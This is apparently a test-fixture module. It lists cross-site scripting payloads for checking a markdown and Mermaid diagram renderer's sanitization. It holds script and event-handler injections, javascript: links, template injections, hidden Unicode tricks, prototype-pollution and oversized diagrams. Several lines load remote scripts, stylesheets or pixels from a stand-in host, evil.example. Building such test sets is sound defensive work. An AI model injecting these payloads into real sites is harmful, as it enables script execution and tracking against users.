// What has run as script, or asked another site, when it was shown by somebody who did not mean it to.
const call = "window.__xss=1";
const base = [
  `<script>${call}</script>`, `<img src=x onerror="${call}">`, `<svg onload="${call}">`, `<body onload="${call}">`, `<iframe src="javascript:${call}"></iframe>`,
  `<a href="javascript:${call}">x</a>`, `[x](javascript:${call})`, `![x](javascript:${call})`, `[x](data:text/html,<script>${call}</script>)`, `[x](vbscript:msgbox(1))`,
  `<math><mi//xlink:href="data:x,<script>${call}</script>">`, `<details open ontoggle="${call}">`, `<video><source onerror="${call}">`, `<audio src=x onerror="${call}">`, `<input autofocus onfocus="${call}">`,
  `<select autofocus onfocus="${call}">`, `<textarea autofocus onfocus="${call}">`, `<keygen autofocus onfocus="${call}">`, `<marquee onstart="${call}">`, `<object data="javascript:${call}">`,
  `<embed src="javascript:${call}">`, `<form action="javascript:${call}"><button>x</button></form>`, `<isindex action="javascript:${call}" type=submit>`, `<base href="http://evil.example/">`, `<link rel=stylesheet href="http://evil.example/x.css">`,
  `<meta http-equiv="refresh" content="0;url=http://evil.example/">`, `<style>@import "http://evil.example/x.css";</style>`, `<div style="background:url(http://evil.example/x)">`, `![x](http://evil.example/pixel.png)`, `<img src="http://evil.example/pixel.png">`,
  `"><script>${call}</script>`, `'><script>${call}</script>`, `</textarea><script>${call}</script>`, `</title><script>${call}</script>`, `</style><script>${call}</script>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`, `<ScRiPt>${call}</sCrIpT>`, `<script src=http://evil.example/x.js></script>`, `<script src=//evil.example/x.js></script>`, `<img src=x onerror=eval(atob('d2luZG93Ll9feHNzPTE='))>`,
  `\${${call}}`, `{{${call}}}`, `{{constructor.constructor('${call}')()}}`, `#{${call}}`, `<%= ${call} %>`,
  `javascript:${call}//`, `JaVaScRiPt:${call}`, `java\tscript:${call}`, `&#106;avascript:${call}`, `&lt;script&gt;${call}&lt;/script&gt;`,
  `<svg><animate onbegin="${call}" attributeName=x dur=1s>`, `<svg><script>${call}</script></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='${call}'/>#x">`, `<svg><foreignObject><body onload="${call}">`, `<template><script>${call}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`, `<xss onafterscriptexecute="${call}"><script>1</script>`, `<p onmouseover="${call}">x</p>`, `<x contenteditable onblur="${call}" autofocus tabindex=1>`, `<a href="http://evil.example" ping="http://evil.example/p">x</a>`,
];
const wrap = [
  (text) => text,
  (text) => `\`\`\`html ${text} \`\`\``,
];
/** Every payload, plain and fenced; and text that hides what it says. */
export const payloads = [
  ...wrap.flatMap((how) => base.map(how)),
  "safe \u202Egnp.exe\u202C", "zero\u200Bwidth", "soft\u00ADhyphen", "tag\u{E0041}character", "bidi\u2066isolate\u2069", "bom\uFEFFinside", "\u0008backspace", "bell\u0007",
];

/** The same for texts that are drawn as diagrams. */
export const diagrams = [
  `flowchart TD\n  A["<img src=x onerror='${call}'>"] --> B["<script>${call}</script>"]`,
  `flowchart TD\n  A --> B\n  click A "javascript:${call}"\n  click B "http://evil.example/" _blank`,
  `flowchart TD\n  A --> B\n  click A call eval("${call}")`,
  `%%{init: {"securityLevel": "loose", "htmlLabels": true, "flowchart": {"htmlLabels": true}}}%%\nflowchart TD\n  A["<img src='http://evil.example/x.png' onerror='${call}'>"]`,
  `%%{init: {"themeCSS": "@import 'http://evil.example/x.css'; * { background: url(http://evil.example/y) }"}}%%\nflowchart TD\n  A --> B`,
  `%%{init: {"fontFamily": "x; } * { background: url(http://evil.example/z) } y {"}}%%\nflowchart TD\n  A --> B`,
  `%%{init: {"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}}}%%\nflowchart TD\n  A --> B`,
  `---\nconfig:\n  securityLevel: loose\n---\nflowchart TD\n  A["<iframe srcdoc='<script>${call}</script>'>"]`,
  `flowchart TD\n  A@{ img: "http://evil.example/pixel.png", label: "x" } --> B`,
  `flowchart TD\n  A --> B\n  style A fill:url(http://evil.example/fill)\n  classDef c background:url(http://evil.example/c)\n  class B c`,
  `sequenceDiagram\n  Alice->>Bob: <svg onload=${call}>\n  links Alice: {"x": "javascript:${call}"}`,
  `classDiagram\n  class A["<img src=x onerror=${call}>"]\n  link A "javascript:${call}"`,
  `pie title <script>${call}</script>\n  "<img src=x onerror=${call}>" : 1`,
  `gantt\n  title x\n  section <script>${call}</script>\n  a :a1, 2024-01-01, 1d\n  click a1 href "javascript:${call}"`,
  `stateDiagram-v2\n  [*] --> A: </style><script>${call}</script>`,
  `flowchart TD\n${Array.from({ length: 300 }, (_, at) => `  subgraph s${at}`).join("\n")}\n  A --> B\n${"  end\n".repeat(300)}`,
  `flowchart TD\n${Array.from({ length: 2_000 }, (_, at) => `  n${at} --> n${(at * 7) % 2_000}`).join("\n")}`,
  `flowchart TD\n  A["${"x".repeat(60_000)}"]`,
  `no diagram at all`,
];
